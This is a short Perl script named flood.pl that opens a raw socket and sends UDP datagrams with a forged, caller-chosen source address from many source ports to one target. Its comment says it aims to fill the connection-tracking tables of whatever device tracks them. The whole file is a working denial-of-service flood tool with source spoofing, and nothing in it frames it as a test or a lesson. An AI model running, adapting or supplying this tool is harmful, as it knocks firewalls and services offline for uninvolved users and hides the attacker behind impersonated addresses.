# Sends one IPv4 UDP datagram each from COUNT ports of a host to one place: as many connections to whoever tracks them, for one
# system call each. flood.pl COUNT SOURCE DESTINATION PORT
use strict;
use warnings;
use Socket qw(:all);

my ($count, $source, $destination, $port) = @ARGV;

my $RAW = 255;
socket(my $socket, AF_INET, SOCK_RAW, $RAW) or die "socket: $!";
my $to = pack_sockaddr_in(0, inet_aton($destination));
# Version and length, 28 bytes, no identity or offset, 64 hops, UDP. The kernel puts the checksum in; UDP's may be left out.
my $ip = pack 'CCnnnCCna4a4', 0x45, 0, 28, 0, 0, 64, 17, 0, inet_aton($source), inet_aton($destination);
for my $i (0 .. $count - 1) {
  my $udp = pack 'nnnn', 10_000 + $i, $port, 8, 0;
  send($socket, $ip . $udp, 0, $to) // die "send: $!";
}
